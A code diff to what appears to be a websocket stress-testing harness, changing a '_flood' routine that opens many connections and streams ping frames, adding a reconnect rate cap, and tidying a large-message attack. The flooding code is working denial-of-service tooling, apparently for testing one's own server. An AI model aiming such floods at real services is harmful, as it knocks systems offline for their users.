@@ -19,6 +19,7 @@ _PATH: Final = "/ws/energy"
 _PINGS: Final = PING_FRAME * 10_000
 # More than a worker could parse, less than a core of the attacker's can send.
 _BYTES_PER_SECOND: Final = 64 << 20
+_RECONNECTS_PER_SECOND: Final = 400.0
 # Within the 50 messages per second that a client may send.
 _MESSAGES_PER_SECOND: Final = 45.0
 
@@ -77,22 +78,16 @@ def _flood(target: Target, count: int, request: bytes, first: bytes) -> None:
     poll = select.poll()
     floods: dict[int, socket.socket] = {}
     due = target.due(_BYTES_PER_SECOND)
+    reconnects = target.due(_RECONNECTS_PER_SECOND)
     budget = 0
     while target.going:
-        while len(floods) < count and target.going:
-            with contextlib.suppress(OSError):
-                connection = target.connected()
+        room = count - len(floods)
+        for _ in range(min(room, reconnects())):
+            if (connection := _upgraded(target, request, first)) is not None:
                 floods[connection.fileno()] = connection
-                connection.sendall(request)
-                connection.recv(1 << 16)
-                connection.sendall(first)
-                connection.setblocking(False)
                 poll.register(connection, select.POLLIN | select.POLLOUT)
-                target.counts["upgraded"] += 1
-                continue
-            target.pause(0.01)
         budget = min(budget + due(), _BYTES_PER_SECOND)
-        if budget <= 0:
+        if budget <= 0 or not floods:
             target.pause(0.005)
             continue
         for descriptor, events in poll.poll(1000 * CONNECT_SECONDS):
@@ -114,6 +109,21 @@ def _flood(target: Target, count: int, request: bytes, first: bytes) -> None:
                 floods.pop(descriptor).close()
     for connection in floods.values():
         connection.close()
+
+
+def _upgraded(target: Target, request: bytes, first: bytes) -> socket.socket | None:
+    """A connection that got an answer and has sent its first message; None if it was closed."""
+    with contextlib.ExitStack() as stack, contextlib.suppress(OSError):
+        connection = stack.enter_context(target.connected())
+        connection.sendall(request)
+        if connection.recv(1 << 16):
+            target.counts["upgraded"] += 1
+            connection.sendall(first)
+            connection.setblocking(False)
+            stack.pop_all()
+            return connection
+    target.counts["not upgraded"] += 1
+    return None
 
 
 @attack(
@@ -163,7 +173,8 @@ def large_messages(target: Target) -> None:
     for connection in connections:
         with contextlib.suppress(OSError):
             for _ in range(99):
-                connection.sendall(LARGE_PING)
+                if target.going:
+                    connection.sendall(LARGE_PING)
             target.counts["sent everything"] += 1
     while target.going:
         target.pause(0.1)
